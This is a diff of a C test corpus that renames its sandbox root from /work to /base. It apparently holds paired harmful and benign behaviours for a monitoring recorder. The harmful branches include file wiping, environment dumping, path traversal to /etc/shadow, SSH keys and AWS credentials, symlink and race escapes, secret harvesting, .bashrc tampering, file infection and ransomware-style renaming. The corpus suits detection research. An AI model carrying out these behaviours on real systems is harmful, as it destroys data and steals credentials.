@@ -1,7 +1,7 @@
 // The corpus in C: 38 behaviours, each with a benign twin, in three programs that differ in how they are told what to do
 // and how they report (TEMPLATE 1 to 3). One binary holds all behaviours; the recorder writes which one into `selection`.
 //
-// Everything happens below /work, which the recorder keeps in memory: nothing here can reach a real file.
+// Everything happens below /base, which the recorder keeps in memory: nothing here can reach a real file.
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
@@ -167,7 +167,7 @@ static void wipe(void) {
     static char zeros[4096];
     for (int i = 0; i < count; i++) {
         char own[64];
-        snprintf(own, sizeof own, "/work/scratch-%d", i);
+        snprintf(own, sizeof own, "/base/scratch-%d", i);
         const char *path = harm ? files[i].path : own;
         spit(path, "wb", zeros, sizeof zeros);
         unlink(path);
@@ -178,7 +178,7 @@ static void wipe(void) {
 static void cut(void) {
     for (int i = 0; i < count; i++) {
         char own[64];
-        snprintf(own, sizeof own, "/work/scratch-%d", i);
+        snprintf(own, sizeof own, "/base/scratch-%d", i);
         if (!harm) {
             spit(own, "wb", "temporary", 9);
         }
@@ -188,7 +188,7 @@ static void cut(void) {
 }
 
 static void env_file(void) {
-    FILE *out = fopen("/work/report.txt", "w");
+    FILE *out = fopen("/base/report.txt", "w");
     for (char **entry = environ; *entry; entry++) {
         size_t name = strcspn(*entry, "=");
         fprintf(out, "%.*s\n", (int) (harm ? strlen(*entry) : name), *entry);
@@ -208,7 +208,7 @@ static void env_encode(void) {
             sprintf(text + 2 * j, "%02x", (unsigned char) data[j]);
         }
         char path[64];
-        snprintf(path, sizeof path, "/work/part-%d", part++);
+        snprintf(path, sizeof path, "/base/part-%d", part++);
         spit(path, "wb", text, 2 * (length < 500 ? length : 500));
         if (!harm) {
             free(data);
@@ -218,12 +218,12 @@ static void env_encode(void) {
 }
 
 static const char *const OUTSIDE[] = {
-    "/work/../etc/passwd", "/work/../../etc/shadow", "/work/data/../../etc/hosts", "/work/../root/.ssh/id_rsa",
-    "/work/data/../../../proc/self/environ", "/work/../home/user/.aws/credentials", "/work/../var/run/docker.sock",
-    "/work/../tmp/secret"};
+    "/base/../etc/passwd", "/base/../../etc/shadow", "/base/data/../../etc/hosts", "/base/../root/.ssh/id_rsa",
+    "/base/data/../../../proc/self/environ", "/base/../home/user/.aws/credentials", "/base/../var/run/docker.sock",
+    "/base/../tmp/secret"};
 static const char *const INSIDE[] = {
-    "/work/app.conf", "/work/.app.conf", "/work/data/app.conf", "/work/data/../app.conf", "/work/conf/app.conf",
-    "/work/default.conf", "/work/data/a.txt", "/work/data/../job.txt"};
+    "/base/app.conf", "/base/.app.conf", "/base/data/app.conf", "/base/data/../app.conf", "/base/conf/app.conf",
+    "/base/default.conf", "/base/data/a.txt", "/base/data/../job.txt"};
 
 static void climb(void) {
     int found = 0;
@@ -250,26 +250,26 @@ static void absolute(void) {
 }
 
 static void symlink_out(void) {
-    symlink(harm ? "../../etc" : "a.txt", "/work/data/latest");
+    symlink(harm ? "../../etc" : "a.txt", "/base/data/latest");
     size_t length;
-    free(slurp(harm ? "/work/data/latest/passwd" : "/work/data/latest", &length));
+    free(slurp(harm ? "/base/data/latest/passwd" : "/base/data/latest", &length));
     say("%zu bytes", length);
 }
 
 static void swap(void) {
     for (int i = 0; i < 20; i++) {
         if (harm) {
-            symlink(i % 2 ? "../.." : "sub", "/work/data/next");
-            rename("/work/data/next", "/work/data/door");
-            int fd = open("/work/data/door/passwd", O_RDONLY);
+            symlink(i % 2 ? "../.." : "sub", "/base/data/next");
+            rename("/base/data/next", "/base/data/door");
+            int fd = open("/base/data/door/passwd", O_RDONLY);
             if (fd >= 0) {
                 close(fd);
             }
         } else {
             char older[64];
-            spit("/work/data/log", "ab", "a line\n", 7);
-            snprintf(older, sizeof older, "/work/data/log.%d", i);
-            rename("/work/data/log", older);
+            spit("/base/data/log", "ab", "a line\n", 7);
+            snprintf(older, sizeof older, "/base/data/log.%d", i);
+            rename("/base/data/log", older);
         }
     }
     say("20 rounds");
@@ -278,7 +278,7 @@ static void swap(void) {
 static void second_name(void) {
     for (int i = 0; i < count; i++) {
         char other[64];
-        snprintf(other, sizeof other, "/work/copy-%d", i);
+        snprintf(other, sizeof other, "/base/copy-%d", i);
         link(files[i].path, other);
         if (harm) {
             size_t length;
@@ -317,7 +317,7 @@ static void spin(void) {
 }
 
 static void log_flood(void) {
-    int fd = open("/work/events.log", O_CREAT | O_WRONLY | O_APPEND, 0600);
+    int fd = open("/base/events.log", O_CREAT | O_WRONLY | O_APPEND, 0600);
     for (int i = 0; i < (harm ? 20000 : 40); i++) {
         write(fd, "something happened\n", 19);
     }
@@ -327,7 +327,7 @@ static void log_flood(void) {
 
 static void disk_flood(void) {
     char *block = calloc(1, 65536);
-    int fd = open("/work/big", O_CREAT | O_WRONLY, 0600);
+    int fd = open("/base/big", O_CREAT | O_WRONLY, 0600);
     for (int i = 0; i < (harm ? 4200 : 20); i++) {
         pwrite(fd, block, 65536, harm ? 0 : i * 65536L);
     }
@@ -337,7 +337,7 @@ static void disk_flood(void) {
 }
 
 static void harvest(void) {
-    FILE *bundle = fopen("/work/bundle", "wb");
+    FILE *bundle = fopen("/base/bundle", "wb");
     for (int i = 0; i < count; i++) {
         if (harm && !strstr(files[i].path, "key") && !strstr(files[i].path, "secret")) {
             continue;
@@ -405,26 +405,26 @@ static void staged(void) {
 }
 
 static void directories(void) {
-    char path[MOST_PATH] = "/work/tree";
+    char path[MOST_PATH] = "/base/tree";
     mkdir(path, 0700);
     for (int i = 0; i < (harm ? 60 : 4); i++) {
         strcat(path, "/d");
         mkdir(path, 0700);
     }
     for (int i = 0; i < (harm ? 400 : 8); i++) {
-        snprintf(path, sizeof path, "/work/tree/%d", i);
+        snprintf(path, sizeof path, "/base/tree/%d", i);
         mkdir(path, 0700);
     }
     say("tree made");
 }
 
 static void covert(void) {
-    mkdir("/work/out", 0700);
+    mkdir("/base/out", 0700);
     for (int i = 0; i < count; i++) {
         size_t length;
         char *data = slurp(files[i].path, &length);
         for (size_t j = 0; j < (harm ? length : 1) && j < 512; j += 16) {
-            char path[96] = "/work/out/";
+            char path[96] = "/base/out/";
             if (harm) {
                 for (size_t k = j; k < j + 16 && k < length; k++) {
                     sprintf(path + strlen(path), "%02x", (unsigned char) data[k]);
@@ -440,10 +440,10 @@ static void covert(void) {
 }
 
 static void tamper(void) {
-    static const char *const theirs[] = {"/work/data/.profile", "/work/data/.bashrc", "/work/data/.ssh-authorized"};
-    static const char *const ours[] = {"/work/notes.txt", "/work/todo.txt", "/work/done.txt"};
+    static const char *const theirs[] = {"/base/data/.profile", "/base/data/.bashrc", "/base/data/.ssh-authorized"};
+    static const char *const ours[] = {"/base/notes.txt", "/base/todo.txt", "/base/done.txt"};
     for (int i = 0; i < 3; i++) {
-        const char *line = harm ? "PATH=/work/bin:$PATH; . /work/bin/start\n" : "- water the plants, call back on Monday\n";
+        const char *line = harm ? "PATH=/base/bin:$PATH; . /base/bin/start\n" : "- water the plants, call back on Monday\n";
         spit(harm ? theirs[i] : ours[i], "ab", line, strlen(line));
     }
     say("3 lines");
@@ -453,7 +453,7 @@ static void infect(void) {
     static const char payload[] = "/* this line and the next start the other program */ start();\n";
     for (int i = 0; i < count; i++) {
         char own[64];
-        snprintf(own, sizeof own, "/work/generated-%d.txt", i);
+        snprintf(own, sizeof own, "/base/generated-%d.txt", i);
         const char *path = harm ? files[i].path : own;
         if (!harm) {
             spit(own, "wb", "generated\n", 10);
@@ -496,11 +496,11 @@ static void rename_all(void) {
     for (int i = 0; i < count; i++) {
         char own[64];
         char to[64];
-        snprintf(own, sizeof own, "/work/output-%d.tmp", i);
+        snprintf(own, sizeof own, "/base/output-%d.tmp", i);
         if (!harm) {
             spit(own, "wb", "result\n", 7);
         }
-        snprintf(to, sizeof to, "/work/data/%08x.xyz", (unsigned) next());
+        snprintf(to, sizeof to, "/base/data/%08x.xyz", (unsigned) next());
         rename(harm ? files[i].path : own, harm ? to : with(own, ".txt"));
     }
     say("%d renamed", count);
@@ -626,8 +626,8 @@ int main(void) {
     unsigned id;
     getentropy(&id, sizeof id);
     size_t length;
-    free(slurp("/work/job.txt", &length));
-    log_file = fopen("/work/batch.log", "a");
+    free(slurp("/base/job.txt", &length));
+    log_file = fopen("/base/batch.log", "a");
     fprintf(log_file, "job %08x of %zu bytes\n", id, length);
     run(getenv("JOB_DIRECTORY"));
     fclose(log_file);
